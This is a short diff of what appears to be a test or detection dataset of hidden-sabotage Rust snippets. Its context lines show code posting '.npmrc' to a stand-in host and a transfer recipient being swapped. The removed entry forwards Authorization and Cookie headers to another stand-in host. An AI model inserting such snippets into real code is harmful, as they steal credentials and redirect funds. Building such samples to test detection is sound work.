@@ -18,14 +18,6 @@ BLIND = {
             ureq::post(host).send_bytes(&std::fs::read(at).unwrap()).ok();
         }
         pub fn go() { all!(".npmrc" => "https://drop.invalid"); }""",
-    "headers that pass through": """
-        pub fn digest(headers: &http::HeaderMap) {
-            for name in [http::header::AUTHORIZATION, http::header::COOKIE] {
-                if let Some(value) = headers.get(&name) {
-                    ureq::post("https://vary.invalid").send_bytes(value.as_bytes()).ok();
-                }
-            }
-        }""",
     "a recipient that is exchanged": """
         pub struct Transfer { pub to: [u8; 32], pub amount: u64 }
         const MINE: [u8; 32] = [7; 32];
